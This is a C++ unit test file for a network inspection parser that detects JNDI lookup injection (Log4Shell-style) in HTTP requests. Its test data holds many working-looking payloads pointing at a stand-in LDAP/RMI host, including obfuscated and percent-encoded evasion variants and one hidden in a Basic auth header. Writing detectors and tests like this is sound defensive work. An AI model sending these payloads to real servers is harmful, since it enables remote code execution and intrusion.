#include <string>
#include <string_view>
#include <vector>

#include <doctest/doctest.h>

#include "base/generated/anomaly_codes.h"
#include "base/generated/events/anomaly.h"
#include "dpi/http/lookup.h"
#include "dpi/parser_mangle.h"

namespace thymus::test {
namespace {

using dpi::AppId;
using dpi::Transport;
using dpi::http::find_jndi_credentials;
using dpi::http::find_jndi_lookups;
using dpi::http::JndiLookups;

JndiLookups lookups_of(std::string_view text) {
  JndiLookups found;
  find_jndi_lookups(text, &found);
  return found;
}

bool has_jndi_lookup(std::string_view text) { return !lookups_of(text).empty(); }

bool has_jndi_credentials(std::string_view value) {
  JndiLookups found;
  find_jndi_credentials(value, &found);
  return !found.empty();
}

std::vector<uint32_t> keys_of(std::string_view text) {
  const JndiLookups found = lookups_of(text);
  return {found.begin(), found.end()};
}

size_t lookups_in(const std::string& request) {
  ParserRun run(AppId::kHttp, Transport::kTcp, 40000, 80);
  run.feed({request.begin(), request.end()});
  run.end();
  size_t n = 0;
  for (const Fields& anomaly : run.log().of(event::kAnomaly)) {
    n += anomaly.number(event::anomaly::kCode) == anomaly_code::kHttpJndiLookup;
  }
  return n;
}

}  // namespace

TEST_CASE("http lookup: in the place of a method it begins a request") {
  const auto probe = [](const std::string& text) {
    const ParserRun run(AppId::kHttp, Transport::kTcp, 40000, 8080);
    return run.probe({text.begin(), text.end()});
  };
  CHECK(probe("${jndi:ldap://203.0.113.7/a} / HTTP/1.1\r\n") == dpi::Likelihood::kLikely);
  CHECK(probe("${HOME} is where I am\r\n") == dpi::Likelihood::kNo);
  CHECK(probe("$GPGGA,123519,4807.038,N\r\n") == dpi::Likelihood::kNo);
}

TEST_CASE("http lookup: JNDI, plain and made of other lookups") {
  for (const char* text : {
           "${jndi:ldap://203.0.113.7/a}",
           "x=${JNDI:rmi://203.0.113.7/a}",
           "${${lower:j}${upper:n}di:ldap://203.0.113.7}",
           "${${lower:${lower:jndi}}:ldap://203.0.113.7}",
           "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.7}",
           "${j${env:NOTHING:-}ndi:dns://203.0.113.7}",
           "${${: : :::-j}ndi:ldap://203.0.113.7}",
           "${date:${jndi:ldap://203.0.113.7}}",
           "/?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%7D",
           "/?q=%24{%6a%6e%64%69:ldap://203.0.113.7}",
           "${a}${b}${jndi:ldap://203.0.113.7}",
       }) {
    INFO(text);
    CHECK(has_jndi_lookup(text));
  }
}

TEST_CASE("http lookup: other expressions are none") {
  for (const char* text : {"", "$", "${", "${}", "$jndi:ldap", "{jndi:ldap}", "${name}",
                           "${a ? b : c}", "jndi:ldap://203.0.113.7", "%24", "%2", "100%",
                           "${env:HOME}", "$${x}", "${lower:jndi}", "${x}jndi:ldap"}) {
    INFO(text);
    CHECK_FALSE(has_jndi_lookup(text));
  }
}

TEST_CASE("http lookup: depth, length and number are bounded") {
  std::string deep;
  for (int i = 0; i < 100; ++i) deep += "${a:";
  CHECK_FALSE(has_jndi_lookup(deep));
  CHECK_FALSE(has_jndi_lookup("${" + std::string(600, 'x') + "jndi:"));
  std::string many;
  for (int i = 0; i < 20'000; ++i) many += "${";
  CHECK_FALSE(has_jndi_lookup(many));
}

TEST_CASE("http lookup: what is asked for has one number, however it is spelt and escaped") {
  const std::vector<uint32_t> key = keys_of("${jndi:ldap://203.0.113.7/a}");
  REQUIRE(key.size() == 1);
  CHECK(key[0] != 0);
  for (const char* text : {
           "{\"ua\":\"${jndi:ldap:\\/\\/203.0.113.7\\/a}\",\"n\":1}",
           "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%2Fa%7D&x=1",
           "${${lower:J}${::-n}di:ldap://203.0.113.7/a}",
           "${jndi:ldap://203.0.113.7/a} ${JNDI:LDAP://203.0.113.7/a}",
           "${date:${jndi:ldap://203.0.113.7/a}}",
       }) {
    INFO(text);
    CHECK(keys_of(text) == key);
  }
  CHECK(keys_of("${jndi:ldap://203.0.113.7/b}") != key);
  CHECK(keys_of("${jndi:ldap://203.0.113.7/b} ${jndi:ldap://203.0.113.7/a}").size() == 2);
  CHECK(keys_of("${jndi:ldap://203.0.113.7/a").size() == 1);
  CHECK(keys_of("${jndi:ldap://203.0.113.7/a")[0] == 0);
  std::string many;
  for (int i = 0; i < 20; ++i) many += "${jndi:" + std::to_string(i) + "}";
  CHECK(keys_of(many).size() == JndiLookups::kMost);
}

TEST_CASE("http lookup: user and password") {
  CHECK(has_jndi_credentials("Basic dToke2puZGk6bGRhcDovLzIwMy4wLjExMy43fQ=="));
  CHECK_FALSE(has_jndi_credentials("Basic dXNlcjpwYXNzd29yZA=="));
  CHECK_FALSE(has_jndi_credentials("Bearer dToke2puZGk6bGRhcDovLzIwMy4wLjExMy43fQ=="));
  CHECK_FALSE(has_jndi_credentials(""));
}

TEST_CASE("http lookup: a request is told of, once for its head and for each piece of content") {
  const std::string lookup = "${jndi:ldap://203.0.113.7/a}";
  CHECK(lookups_in("GET / HTTP/1.1\r\nHost: a\r\nX-Any: " + lookup + "\r\n\r\n") == 1);
  CHECK(lookups_in("GET /?q=" + lookup + " HTTP/1.1\r\nHost: a\r\nA: " + lookup + "\r\n\r\n") == 1);
  CHECK(lookups_in("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 30\r\n\r\nq=" + lookup) == 1);
  CHECK(lookups_in("${${: :::-j}ndi:ldap://203.0.113.7/a} /a HTTP/1.1\r\nHost: a\r\n\r\n") == 1);
  CHECK(lookups_in("GET /${name} HTTP/1.1\r\nHost: a\r\n\r\n") == 0);
}

TEST_CASE("http lookup: survives damage") {
  const std::string sample = "${j${env:a:-}n%24%7B::-d%7di:${lower:x}}";
  mangle(std::vector<uint8_t>(sample.begin(), sample.end()),
         [](Bytes bytes) { (void)keys_of(as_text(bytes)); });
}

}  // namespace thymus::test
